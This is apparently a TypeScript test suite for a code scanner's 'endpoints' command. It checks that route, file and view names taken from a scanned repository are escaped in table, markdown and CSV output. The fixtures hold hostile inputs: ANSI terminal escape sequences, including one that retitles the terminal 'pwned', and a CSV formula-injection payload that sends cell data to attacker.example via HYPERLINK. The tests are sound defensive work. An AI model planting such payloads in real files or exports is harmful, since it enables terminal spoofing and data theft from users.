import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { runCli } from './support/cli.js';
import { writeProject } from './support/projects.js';

/**
 * The scanned repository names the files, modules, routes and views that `endpoints` prints: none
 * of them may reach a terminal, a markdown document or a spreadsheet as something to run.
 */
const FLASK_EXEMPT = (route: string) =>
  ['from flask import Flask', 'from flask_wtf.csrf import CSRFProtect', '', 'app = Flask(__name__)', 'csrf = CSRFProtect(app)', '', '', `@app.route(${JSON.stringify(route)}, methods=["POST"])`, '@csrf.exempt', 'def hook():', '    return ""', ''].join('\n');
const DJANGO_UNROUTED_EXEMPT = 'from django.views.decorators.csrf import csrf_exempt\n\n\n@csrf_exempt\ndef hook(request):\n    return None\n';
const ESCAPE_NAME = 'evil\u001b[31mRED';
const TITLE_NAME = 'views\u001b]0;pwned\u0007';

function hostileProject(): string {
  return writeProject({
    'pyproject.toml': '[project]\nname = "shop"\n',
    [`${ESCAPE_NAME}.py`]: FLASK_EXEMPT('/hook'),
    'new\nline.py': FLASK_EXEMPT('/other'),
    'plain.py': FLASK_EXEMPT('/plain'),
    [`legacy/${TITLE_NAME}.py`]: DJANGO_UNROUTED_EXEMPT,
  });
}

describe('endpoints: names from the scanned repository are escaped as check escapes them', () => {
  const directory = hostileProject();

  test('table: app headers and unrouted findings show controls and line breaks as \\x1B and \\x0A', () => {
    const run = runCli(['endpoints', '--no-cache', '.'], directory);
    assert.equal(run.status, 0, run.stderr);
    assert.doesNotMatch(run.stdout, /[\u001b\u0007\r]/);
    const lines = run.stdout.split('\n');
    assert.ok(lines.includes('evil\\x1B[31mRED.app (flask)'), run.stdout);
    assert.ok(lines.includes('new\\x0Aline.app (flask)'), run.stdout);
    assert.ok(lines.includes('plain.app (flask)'), run.stdout);
    assert.ok(lines.includes('legacy/views\\x1B]0;pwned\\x07.py:4: CSRF102 [django-csrf-exempt] is about a view no route of the scanned code reaches.'), run.stdout);
  });

  test('markdown: headers, cells and the unrouted list are escaped for markdown and for terminals', () => {
    const run = runCli(['endpoints', '--no-cache', '--format', 'markdown', '.'], directory);
    assert.equal(run.status, 0, run.stderr);
    assert.doesNotMatch(run.stdout, /[\u001b\u0007\r]/);
    const lines = run.stdout.split('\n');
    assert.ok(lines.includes('## evil\\\\x1B\\[31mRED.app (flask)'), run.stdout);
    assert.ok(lines.includes('## new\\\\x0Aline.app (flask)'), run.stdout);
    assert.ok(lines.includes('## plain.app (flask)'), run.stdout);
    assert.ok(lines.includes('- CSRF102 `django-csrf-exempt` at legacy/views\\\\x1B\\]0;pwned\\\\x07.py:4'), run.stdout);
  });
});

describe('endpoints --format csv: no cell runs as a spreadsheet formula', () => {
  test('cells starting with =, +, -, @ get a leading quote; other cells are left as they are', () => {
    const directory = writeProject({
      'pyproject.toml': '[project]\nname = "shop"\n',
      '=1+1.py': FLASK_EXEMPT('=HYPERLINK("http://attacker.example/?"&A1,"open")'),
      '@sum.py': FLASK_EXEMPT('+1'),
      'plain.py': FLASK_EXEMPT('/plain-1'),
    });
    const run = runCli(['endpoints', '--no-cache', '--format', 'csv', '.'], directory);
    assert.equal(run.status, 0, run.stderr);
    const rows = run.stdout.trimEnd().split('\n').slice(1).map((row) => row.split(',').slice(0, 6).join(','));
    assert.deepEqual(rows.sort(), [
      "flask,'=1+1.app,'=1+1.py,10,hook,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1",
      "flask,'@sum.app,'@sum.py,10,hook,'+1",
      'flask,plain.app,plain.py,10,hook,/plain-1',
    ]);
  });
});

describe('endpoints --only', () => {
  const directory = writeProject({ 'pyproject.toml': '[project]\nname = "shop"\n', 'plain.py': FLASK_EXEMPT('/plain') });

  test('an empty list of states is a usage error, not an empty inventory', () => {
    for (const only of ['', ',', ' , ']) {
      const run = runCli(['endpoints', '--no-cache', '--only', only, '.'], directory);
      assert.equal(run.status, 2, `--only '${only}'`);
      assert.match(run.stderr, /--only names no state/);
      assert.equal(run.stdout, '');
    }
  });

  test('a named state still filters', () => {
    const run = runCli(['endpoints', '--no-cache', '--only', 'exempt', '--format', 'csv', '.'], directory);
    assert.equal(run.status, 0, run.stderr);
    assert.equal(run.stdout.trimEnd().split('\n').length, 2);
  });
});
